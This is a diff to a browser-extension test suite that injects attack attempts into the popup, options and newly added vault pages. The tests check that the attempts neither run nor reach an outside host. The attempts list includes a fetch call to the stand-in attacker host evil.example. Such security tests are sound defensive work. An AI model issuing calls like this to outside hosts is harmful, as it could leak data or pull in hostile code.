@@ -42,35 +42,38 @@ const attempts: readonly (readonly [string, string])[] = [
   ['a question by plain http', `fetch('http://evil.example/fetch').catch(() => {})`],
 ];
 
-describe.each(['/popup.html?in=tab', '/options.html'])('X9 what somebody puts into %s', (path) => {
-  let page: Page;
-  beforeAll(async () => {
-    page = await chromium.ownPage(path);
-    await page.evaluate(() => {
-      Object.assign(globalThis, {
-        append: (tag: string, properties: object) => {
-          const element = Object.assign(document.createElement(tag), properties);
-          document.body.append(element);
-          return element;
-        },
-        // What a debugger evaluates itself is exempt.
-        later: (run: () => void) => setTimeout(run),
+describe.each(['/popup.html?in=tab', '/options.html', '/vault.html'])(
+  'X9 what somebody puts into %s',
+  (path) => {
+    let page: Page;
+    beforeAll(async () => {
+      page = await chromium.ownPage(path);
+      await page.evaluate(() => {
+        Object.assign(globalThis, {
+          append: (tag: string, properties: object) => {
+            const element = Object.assign(document.createElement(tag), properties);
+            document.body.append(element);
+            return element;
+          },
+          // What a debugger evaluates itself is exempt.
+          later: (run: () => void) => setTimeout(run),
+        });
       });
     });
-  });
 
-  it('is put in there: what is no attack does run', async () => {
-    await page.evaluate(`later(() => { append('p', { id: 'control' }) })`);
-    await page.waitForSelector('#control', { timeout: 5000 });
-  });
+    it('is put in there: what is no attack does run', async () => {
+      await page.evaluate(`later(() => { append('p', { id: 'control' }) })`);
+      await page.waitForSelector('#control', { timeout: 5000 });
+    });
 
-  it.each(attempts)('%s: neither runs nor reaches anybody', async (_, attempt) => {
-    const asked = () => sites.requests.filter(({ url }) => new URL(url).host === 'evil.example');
-    const before = asked();
-    await page.evaluate(attempt);
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    expect(await page.evaluate('globalThis.ran')).toBeUndefined();
-    expect(page.url()).toBe(chromium.origin + path);
-    expect(asked()).toEqual(before);
-  });
-});
+    it.each(attempts)('%s: neither runs nor reaches anybody', async (_, attempt) => {
+      const asked = () => sites.requests.filter(({ url }) => new URL(url).host === 'evil.example');
+      const before = asked();
+      await page.evaluate(attempt);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(await page.evaluate('globalThis.ran')).toBeUndefined();
+      expect(page.url()).toBe(chromium.origin + path);
+      expect(asked()).toEqual(before);
+    });
+  },
+);
